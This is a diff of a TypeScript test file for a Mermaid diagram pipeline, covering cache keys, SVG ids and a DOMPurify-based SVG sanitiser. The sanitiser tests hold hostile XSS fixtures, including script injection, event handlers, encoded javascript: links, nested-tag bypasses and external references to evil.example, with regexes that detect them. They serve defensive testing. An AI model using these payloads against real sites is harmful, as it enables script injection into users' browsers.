@@ -1,19 +1,11 @@
 import { describe, expect, it } from 'vitest';
-import {
-	diagramKey,
-	parseOutline,
-	prefixIds,
-	prepareSvg,
-	sanitizeSvg,
-	stripRuntimeData,
-	svgId,
-} from '../../src/lib/diagrams.ts';
+import { diagramKey, mermaidConfig, parseOutline, svgId, variant } from '../../src/lib/diagrams.ts';
+import { diagramSvg, safeStyle, sanitizeSvg } from '../../src/lib/diagram-svg.ts';
 
 const base = {
 	source: 'flowchart TD\n a-->b',
 	mermaidVersion: '12.3.0',
-	theme: 'light' as const,
-	id: 'dg-x-zh-light',
+	id: 'dg-x-zh',
 };
 
 describe('diagram cache keys', () => {
@@ -25,8 +17,7 @@ describe('diagram cache keys', () => {
 	it.each([
 		['source', { source: 'flowchart TD\n a-->c' }],
 		['Mermaid version', { mermaidVersion: '12.3.1' }],
-		['theme (and so the settings)', { theme: 'dark' as const }],
-		['variant id', { id: 'dg-x-en-light' }],
+		['SVG id (Mermaid writes it into every inner id)', { id: 'dg-x-en' }],
 	])('changes with the %s', (_what, change) => {
 		expect(diagramKey({ ...base, ...change })).not.toBe(diagramKey(base));
 	});
@@ -34,51 +25,111 @@ describe('diagram cache keys', () => {
 	it('ignores surrounding whitespace of the source', () => {
 		expect(diagramKey({ ...base, source: `\n${base.source}\n\n` })).toBe(diagramKey(base));
 	});
+
+	it('one rendering per diagram and language: the settings carry no theme colours', () => {
+		const settings = JSON.stringify(mermaidConfig());
+		expect(settings).not.toMatch(/#[0-9a-f]{3,6}\b/i);
+		expect(variant('a', 'zh', base.source).file).not.toBe(variant('a', 'en', base.source).file);
+		expect(variant('a', 'zh', base.source)).toEqual(variant('a', 'zh', `${base.source}\n`));
+	});
 });
 
 describe('svg ids', () => {
-	it('are unique per diagram, language and theme', () => {
-		const ids = ['a', 'b'].flatMap((d) =>
-			(['zh', 'en'] as const).flatMap((l) =>
-				(['light', 'dark'] as const).map((t) => svgId(d, l, t)),
-			),
-		);
-		expect(new Set(ids).size).toBe(8);
-		expect(svgId('tongling-structure', 'zh', 'dark')).toBe('dg-tongling-structure-zh-dark');
+	it('are unique per diagram and language', () => {
+		const ids = ['a', 'b'].flatMap((d) => (['zh', 'en'] as const).map((l) => svgId(d, l)));
+		expect(new Set(ids).size).toBe(4);
+		expect(svgId('tongling-structure', 'zh')).toBe('dg-tongling-structure-zh');
 	});
 });
 
-describe('sanitizeSvg', () => {
-	it('strips scripts, handlers, foreignObject and external references from a hostile label', () => {
-		const hostile =
-			'<svg id="dg-x"><style>@import url(https://evil.example/x.css);.a{fill:url(https://evil.example/p)}</style>' +
-			'<script>alert(1)</script><script src="https://evil.example/x.js"/>' +
-			'<g onclick="alert(2)" onmouseover=\'alert(3)\'><text>label</text></g>' +
-			'<foreignObject><div><img src=x onerror=alert(4)></div></foreignObject>' +
-			'<a href="javascript:alert(5)"><text>x</text></a><use xlink:href="https://evil.example/s.svg#i"/>' +
-			'<use href="#dg-x-marker"/></svg>';
-		const clean = sanitizeSvg(hostile);
-		expect(clean).not.toMatch(
-			/<script|onclick|onmouseover|onerror|foreignObject|evil\.example|javascript:|@import/i,
-		);
+/** A small Mermaid-like SVG with one payload inside it. */
+const tampered = (payload: string) =>
+	`<svg id="dg-x" viewBox="0 0 100 50"><g class="node"><rect width="10" height="10"></rect><text>label</text></g>${payload}</svg>`;
+
+/**
+ * The eight tricks that got through the old regular-expression sanitiser (reliability review,
+ * "Tampered SVG"). Each must come out with no script, handler, external reference or markup that
+ * leaves the SVG, and the label must survive.
+ */
+const BYPASSES: [string, string][] = [
+	['a script split by a nested script', '<scr<script></script>ipt>alert(1)</script>'],
+	['an event handler with no space before it', '<g/onclick=alert(2)><rect></rect></g>'],
+	[
+		'entity-encoded javascript: and unquoted external hrefs',
+		'<a href=&#106;avascript:alert(3)><text>x</text></a><a href=https://evil.example/a><text>y</text></a><use href=//evil.example/s.svg#i />',
+	],
+	[
+		'a foreignObject split by a nested one, with an iframe inside',
+		'<foreignObj<foreignObject></foreignObject>ect><iframe src=https://evil.example/f></iframe></foreignObj<foreignObject></foreignObject>ect>',
+	],
+	[
+		'CSS image-set() in a style element and a style attribute',
+		`<style>.node{background:image-set("https://evil.example/i.png" 1x)}</style><rect style="fill:image-set('https://evil.example/p.png' 1x);stroke-width:2"></rect>`,
+	],
+	['an HTML img that breaks out of the SVG', '</svg><img src="https://evil.example/p.png">'],
+	['a meta refresh', '<meta http-equiv="refresh" content="3;url=https://evil.example/phish">'],
+	['a comment that once suppressed the CSP meta', '<!-- http-equiv="content-security-policy" -->'],
+];
+
+describe('sanitizeSvg (DOMPurify on jsdom)', () => {
+	it.each(BYPASSES)('%s comes out clean', (_name, payload) => {
+		const clean = sanitizeSvg(tampered(payload));
+		expect(clean).toMatch(/^<svg id="dg-x"[^>]*>[\s\S]*<\/svg>$/);
+		expect(clean.match(/<svg\b/g)).toHaveLength(1);
 		expect(clean).toContain('<text>label</text>');
-		expect(clean).toContain('href="#dg-x-marker"');
+		expect(clean).not.toMatch(/<(script|style|foreignObject|iframe|img|meta|a|use)\b/i);
+		expect(clean).not.toMatch(/\son\w+\s*=|javascript:|evil\.example|image-set|<!--|http-equiv/i);
+		// Not even as stray text: what a removed tag leaves outside a text element goes too.
+		expect(clean).not.toMatch(/alert|ipt&gt;|ect&gt;/);
+	});
+
+	it('keeps what Mermaid needs: markers, local url() references, classDef styles', () => {
+		const svg =
+			'<svg id="dg-x" viewBox="0 0 10 10" role="graphics-document document"><marker id="dg-x_end" refX="5" refY="5" markerWidth="8" markerHeight="8" orient="auto"><path d="M0 0L10 5z" class="arrowMarkerPath"></path></marker>' +
+			'<path class="flowchart-link" marker-end="url(#dg-x_end)" style="stroke-dasharray:5 5 !important" d="M0 0L9 9"></path>' +
+			'<text text-anchor="middle" dominant-baseline="middle"><tspan dy="1em" font-weight="normal">标签</tspan></text></svg>';
+		expect(sanitizeSvg(svg)).toBe(svg);
+	});
+
+	it('keeps only harmless declarations of a style attribute', () => {
+		expect(safeStyle('stroke-width: 1; stroke-dasharray: 1, 0;')).toBe(
+			'stroke-width:1;stroke-dasharray:1, 0',
+		);
+		expect(safeStyle('fill:url(https://e.example/x);background:red;stroke:#999')).toBe(
+			'stroke:#999',
+		);
+		expect(safeStyle('fill:\\75rl(x);opacity:0.5')).toBe('opacity:0.5');
+	});
+
+	it('drops url() references that leave the document', () => {
+		const out = sanitizeSvg(
+			'<svg id="d"><path marker-end="url(https://evil.example/m.svg#a)" fill="url(//evil.example/p)" d="M0 0"></path></svg>',
+		);
+		expect(out).toBe('<svg id="d"><path d="M0 0"></path></svg>');
 	});
 });
 
-describe('prepareSvg', () => {
-	it('adds role, title and description, escaping them', () => {
-		const out = prepareSvg(
-			'<svg id="dg-a" role="graphics-document document" style="max-width: 10px;" viewBox="0 0 10 10"><g/></svg>',
-			{
-				titleId: 't',
-				descId: 'd',
-				title: 'A <b>',
-				desc: 'x & y',
-			},
+describe('diagramSvg', () => {
+	const cached =
+		'<svg id="dg-t-zh" width="100%" style="max-width: 300px;" viewBox="0 0 300 120" role="graphics-document document" aria-roledescription="timeline"><style>#dg-t-zh{fill:#000}</style>' +
+		'<marker id="undefined-arrowhead"><path d="M0 0"></path></marker><marker id="unused"><path d="M0 0"></path></marker>' +
+		'<line marker-end="url(#undefined-arrowhead)"></line><path id="undefined-node-0" d="M0 0"></path></svg>';
+
+	it('adds role, title and description (as text), prefixes stray ids, drops unused markers and Mermaid styles', () => {
+		const { svg, width, height } = diagramSvg(cached, {
+			id: 'dg-t-zh',
+			title: 'A <b>',
+			desc: 'x & y',
+		});
+		expect([width, height]).toEqual([300, 120]);
+		expect(svg).toMatchInlineSnapshot(
+			`"<svg id="dg-t-zh" viewBox="0 0 300 120" role="img" aria-labelledby="dg-t-zh-title dg-t-zh-desc"><title id="dg-t-zh-title">A &lt;b&gt;</title><desc id="dg-t-zh-desc">x &amp; y</desc><marker id="dg-t-zh-undefined-arrowhead"><path d="M0 0"></path></marker><line marker-end="url(#dg-t-zh-undefined-arrowhead)"></line><path id="dg-t-zh-undefined-node-0" d="M0 0"></path></svg>"`,
 		);
-		expect(out).toMatchInlineSnapshot(
-			`"<svg id="dg-a" viewBox="0 0 10 10" role="img" aria-labelledby="t d"><title id="t">A &lt;b&gt;</title><desc id="d">x &amp; y</desc><g/></svg>"`,
+	});
+
+	it('refuses a cache file with no SVG in it', () => {
+		expect(() => diagramSvg('<p>not a diagram</p>', { id: 'x', title: 't', desc: 'd' })).toThrow(
+			/diagram x: the cached file holds no <svg> element/,
 		);
 	});
 });
@@ -108,22 +159,5 @@ describe('parseOutline', () => {
 			{ text: 'a', children: [] },
 			{ text: 'b', children: [] },
 		]);
-	});
-});
-
-describe('prefixIds', () => {
-	it('prefixes ids the renderer left bare, and their references, leaving prefixed ones alone', () => {
-		const svg =
-			'<svg id="dg-t-zh-light"><style>#dg-t-zh-light .x{}#undefined-arrowhead{fill:red}</style>' +
-			'<marker id="undefined-arrowhead"/><path marker-end="url(#undefined-arrowhead)"/>' +
-			'<g id="dg-t-zh-light-node1"/><use href="#undefined-arrowhead"/></svg>';
-		expect(prefixIds(svg, 'dg-t-zh-light')).toBe(
-			'<svg id="dg-t-zh-light"><style>#dg-t-zh-light .x{}#dg-t-zh-light-undefined-arrowhead{fill:red}</style>' +
-				'<marker id="dg-t-zh-light-undefined-arrowhead"/><path marker-end="url(#dg-t-zh-light-undefined-arrowhead)"/>' +
-				'<g id="dg-t-zh-light-node1"/><use href="#dg-t-zh-light-undefined-arrowhead"/></svg>',
-		);
-	});
-	it('drops Mermaid runtime data', () => {
-		expect(stripRuntimeData('<path data-points="AAAA" d="M0"/>')).toBe('<path d="M0"/>');
 	});
 });
